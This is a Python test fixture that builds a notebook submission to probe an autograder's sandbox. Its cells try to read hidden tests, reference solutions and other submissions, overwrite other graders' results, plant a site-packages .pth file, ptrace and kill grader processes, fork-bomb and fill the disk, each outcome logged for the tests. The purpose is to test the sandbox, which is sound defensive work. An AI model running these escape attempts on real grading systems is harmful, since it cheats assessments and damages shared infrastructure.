"""A submission that owns its Python process and tries to leave the sandbox.

Graded with the in-process policy switched off (``BACKPROP_TEST_WITHOUT_POLICY=1``, read by
the trusted grader), so everything it tries is stopped by the operating system or not at
all. Built from the blank notebook; its last cell raises ``EscapeReport`` carrying what each
attempt achieved (``DONE ...`` or ``refused ...``), which the tests read from the cell's
message. The tests also check every effect they can from outside (files, processes, a
listening socket, the other submissions' grades).
"""

from __future__ import annotations

from . import blank, with_cell

ATTACK = r'''
import ctypes, glob, json, os, signal, socket, time

CHECKOUT, MARK, PORT, TOKEN = {checkout!r}, {mark!r}, {port!r}, {token!r}
report = {{}}


def attempt(name, action):
    try:
        report[name] = "DONE " + str(action())[:120]
    except BaseException as exc:
        report[name] = "refused " + type(exc).__name__


def read_any(patterns):
    found = []
    for pattern in patterns:   # "**" stands for up to four directories (not a whole tree)
        for path in [p for depth in range(5) for p in
                     glob.glob(pattern.replace("**", "/".join(["*"] * depth) or "."))]:
            try:
                with open(path, "rb") as fh:
                    if fh.read(64):
                        found.append(path)
            except OSError:
                pass
    if not found:
        raise PermissionError("nothing readable")
    return found


def write_all(paths):
    written = []
    for path in paths:
        try:
            with open(path, "w") as fh:
                fh.write("escaped")
            written.append(path)
        except OSError:
            pass
    if not written:
        raise PermissionError("nothing writable")
    return written


def abstract_socket():
    sock = socket.socket(socket.AF_UNIX)
    sock.settimeout(3)
    sock.connect("\0backprop-escape-" + TOKEN)
    return "connected"


def libc_call(name, *args):
    libc = ctypes.CDLL(None, use_errno=True)
    result = getattr(libc, name)(*args)
    if result == -1:
        raise OSError(ctypes.get_errno(), name)
    return result


def shared_memory_file():
    with open("/dev/shm/backprop-escape-" + TOKEN, "wb") as fh:
        fh.write(b"x" * (1 << 20))
    return "1 MB"


def fill(name, chunk, count):
    total = 0
    with open(name, "wb") as fh:
        for _ in range(count):
            fh.write(b"x" * chunk)
            fh.flush()
            total += chunk
    return total


def survivor():
    pid = os.fork()
    if pid == 0:   # never returns into the worker's code (a second worker answering)
        code = 1
        try:
            os.setsid()
            if os.fork() == 0:
                time.sleep(600)
            code = 0
        finally:
            os._exit(code)
    # wait until its child has started the survivor: the fork bomb below must not take
    # that process's slot under the process-count limit
    if os.waitpid(pid, 0)[1] != 0:
        raise ChildProcessError("the survivor could not start")
    return pid


def fork_bomb():
    children = 0
    try:
        for _ in range(64):
            pid = os.fork()
            if pid == 0:
                time.sleep(30)
                os._exit(0)
            children += 1
    except OSError:
        pass
    return f"{{children}} children"


def kill_other_graders():
    killed, pids = [], [os.getppid()]
    try:
        pids += [int(p) for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pass
    for pid in pids:
        try:
            cmdline = open(f"/proc/{{pid}}/cmdline", "rb").read()
        except OSError:
            cmdline = b""
        if pid == os.getppid() or TOKEN.encode() in cmdline:
            try:
                os.kill(pid, signal.SIGKILL)
                killed.append(pid)
            except OSError:
                pass
    if not killed:
        raise PermissionError("no grader reachable")
    return killed


attempt("read_hidden_tests", lambda: read_any([
    "/autograder/source/tests/*.py", "/tmp/backprop-source-*/source/tests/*.py",
    "/tmp/**/source/tests/q1.py", "../source/tests/*.py", "/proc/1/root/tmp/**/tests/q1.py"]))
attempt("read_reference", lambda: read_any([   # the grader's copies
    "/autograder/source/files/backprop_reference.py", "/tmp/backprop-*/**/backprop_reference.py",
    "../source/files/*.py", "/proc/*/cwd/files/*.py"]))
attempt("read_checkout", lambda: read_any([   # copies readable by every user of the machine
    CHECKOUT + "/solutions/*", CHECKOUT + "/autograder/autograder.zip",
    "/tmp/**/backprop_reference.py", "/tmp/**/autograder.zip"]))
attempt("read_zip", lambda: read_any(["/tmp/backprop-*/**/autograder.zip", "/autograder/*.zip"]))
attempt("read_other_submissions", lambda: read_any([
    "/tmp/backprop-grade-*/submission/*", "/tmp/**/" + TOKEN + "/submissions/*.ipynb"]))
attempt("write_outside", lambda: write_all([
    MARK, CHECKOUT + "/escape-mark", "/escape-mark",
    CHECKOUT + "/.venv/lib/python3.11/site-packages/escape.pth"]
    + glob.glob("/tmp/backprop-grade-*/results/results.json")))
attempt("write_shared_tmp", lambda: write_all(["/tmp/backprop-escape-mark"]))
def one_big_file():
    try:
        return f"{{fill('big.bin', 1 << 20, 100) >> 20}} MB"
    finally:
        os.remove("big.bin")


attempt("one_file_beyond_cap", one_big_file)
attempt("network_loopback", lambda: socket.create_connection(("127.0.0.1", PORT), timeout=3))
attempt("network_internet", lambda: socket.create_connection(("1.1.1.1", 53), timeout=3))
attempt("network_abstract_unix", abstract_socket)
attempt("ptrace_grader", lambda: libc_call("ptrace", 16, os.getppid(), 0, 0))   # ATTACH
attempt("memfd", lambda: os.memfd_create("backprop-escape"))
attempt("sysv_shared_memory", lambda: libc_call("shmget", 0, 1 << 20, 0o1600))
attempt("new_namespace", lambda: libc_call("unshare", 0x10000000))   # CLONE_NEWUSER
attempt("posix_shared_memory", shared_memory_file)
attempt("kill_other_graders", kill_other_graders)
attempt("survivor", survivor)
attempt("fork_bomb", fork_bomb)


class EscapeReport(Exception):
    pass


raise EscapeReport("ESCAPE " + json.dumps(report))
'''


# Disk fills, each in a cell of its own: where the grader ends the worker for passing the
# cap, the cell is recorded as crashed and the worker restarted without it (the attack cell
# after them still reports). Where the file system refuses, the cell removes what it wrote and
# raises "FILLED <n> MB".
FILL = r'''
import os
total, names, error = 0, [], ""
try:
    for i in range({count}):
        names.append(os.path.join({where!r}, f"backprop-fill-{{i}}.bin"))
        with open(names[-1], "wb") as fh:
            for _ in range(30):
                fh.write(b"x" * (1 << 20))
                total += 1 << 20
except OSError as exc:
    error = f": {{exc}}"
for name in names:   # what it could write is measured; the next cells start from nothing
    try:
        os.remove(name)
    except OSError:
        pass
raise OSError(f"FILLED {{total >> 20}} MB in {where}{{error}}")
'''
FILL_PLACES = (".", "/tmp", "/dev/shm")   # the work directory, then shared writable ones
FILL_MB = 600


def escaping(checkout: str, mark: str, port: int, token: str):
    """The blank notebook with the disk fills and then the attack as its last cells."""
    nb = blank()
    for where in FILL_PLACES:
        nb = with_cell(nb, FILL.format(where=where, count=FILL_MB // 30))
    return with_cell(nb, ATTACK.format(checkout=checkout, mark=mark, port=port, token=token))
